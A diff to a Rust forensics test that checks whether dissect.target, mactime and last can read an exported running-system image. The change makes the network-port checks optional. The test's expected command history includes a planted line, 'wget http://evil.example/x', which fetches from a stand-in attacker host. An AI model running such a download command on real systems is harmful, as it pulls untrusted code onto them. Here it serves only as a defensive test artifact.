@@ -76,8 +76,9 @@ fn tools_of_others_read_an_export() {
     let finished = Agent::find().run(arguments);
     finished.assert_code(0);
     let (pid, port) = (plain.number("pid"), listener.local_addr().unwrap().port());
-    dissect(&python, &out.join("root.tar"), pid, port);
-    dissect(&python, &out.join("[root]"), pid, port);
+    dissect(&python, &out.join("root.tar"), pid, Some(port));
+    // In the tree the content of a deleted file stands where its descriptor, a link, was: dissect's sockets want links only.
+    dissect(&python, &out.join("[root]"), pid, None);
     mactime(test, &out.join("bodyfile.txt"));
     let logins = said(Command::new("last").arg("-f").arg(out.join("[root]/var/log/wtmp")));
     assert!(logins.contains("ann") && logins.contains("pts/7") && logins.contains("evil"), "{logins}");
@@ -91,7 +92,7 @@ fn tools_of_others_read_an_export() {
 }
 
 /// Every function that dissect.target has for what was collected of a running system.
-fn dissect(python: &Path, target: &Path, pid: i64, port: u16) {
+fn dissect(python: &Path, target: &Path, pid: i64, port: Option<u16>) {
     let ask = |function: &str| {
         let mut command = Command::new(python);
         said(command.args(["-m", "dissect.target.tools.query", "-q", "-s", "-f", function]).arg(target))
@@ -108,9 +109,11 @@ fn dissect(python: &Path, target: &Path, pid: i64, port: u16) {
     has("processes", &[format!("pid={pid} "), "name='odd'".to_owned()]);
     has("cmdline", &[format!("pid={pid} "), "plain".to_owned()]);
     has("environ", &[format!("pid={pid} "), "PATH".to_owned()]);
-    has("netstat", &[format!("127.0.0.1:{port}"), "LISTEN".to_owned()]);
-    has("sockets", &[format!("local_port={port} ")]);
     has("commandhistory", &["wget http://evil.example/x".to_owned()]);
+    if let Some(port) = port {
+        has("netstat", &[format!("127.0.0.1:{port}"), "LISTEN".to_owned()]);
+        has("sockets", &[format!("local_port={port} ")]);
+    }
 }
 
 fn mactime(test: &str, bodyfile: &Path) {
